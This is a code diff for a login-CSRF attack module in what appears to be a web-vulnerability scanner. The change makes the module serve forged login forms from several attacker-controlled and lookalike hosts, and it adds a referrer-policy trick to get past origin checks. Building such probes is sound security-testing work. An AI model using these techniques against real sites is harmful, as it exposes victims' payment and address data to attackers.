@@ -1,6 +1,6 @@
-// login-csrf: signs the victim in as the attacker, by a form on another site or by the attacker's
-// own session cookies set from a sibling host. What the victim then writes down, a card, an
-// address, is in the attacker's account.
+// login-csrf: signs the victim in as the attacker, by forms on hosts of the attacker's, whose names
+// may look like the app's. What the victim then writes down, a card, an address, is in the
+// attacker's account.
 // https://cheatsheetseries.owasp.org/cheatsheets/Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html#possible-csrf-vulnerabilities-in-login-forms
 #include "core/attack/every_agent.h"
 #include "core/attack/lure.h"
@@ -14,8 +14,9 @@ namespace {
 class LoginCsrf final : public Agent {
     void run(Target& target) override {
         Endpoint const* login = endpoint_option(target, option::kLogin, "login");
-        OwnHost* evil = foreign_host(target);
-        if (login == nullptr || target.victim() == nullptr || evil == nullptr) return;
+        std::vector<OwnHost*> hosts = foreign_hosts(target);
+        if (OwnHost* sibling = sibling_host(target)) hosts.push_back(sibling);
+        if (login == nullptr || target.victim() == nullptr || hosts.empty()) return;
         OwnForm const visitor = look_at_form(target, *login, As::Visitor);
         std::vector<http::QueryPair> fields = as_attacker(target, *login);
         std::vector<ForgedForm> forms;
@@ -25,8 +26,13 @@ class LoginCsrf final : public Agent {
             for (http::QueryPair const& each : visitor.tokens) fields.push_back(each);
             forms.push_back({.action = address_of(target, *login), .fields = fields});
         }
-        Lure lure(target, *evil);
-        for (ForgedForm const& each : forms) lure.show(submitting(each));
+        for (OwnHost* host : hosts) {
+            Lure lure(target, *host);
+            for (ForgedForm const& each : forms) lure.show(submitting(each));
+            // No cookie has to go along: a check of where it comes from stands alone here.
+            lure.show_at(target.surface().host + "/?https://" + target.surface().host + "/",
+                         submitting(forms.back()), {{"referrer-policy", "unsafe-url"}});
+        }
         harvest(target);
         target.note("The victim was sent through the login form with the attacker's account.");
     }
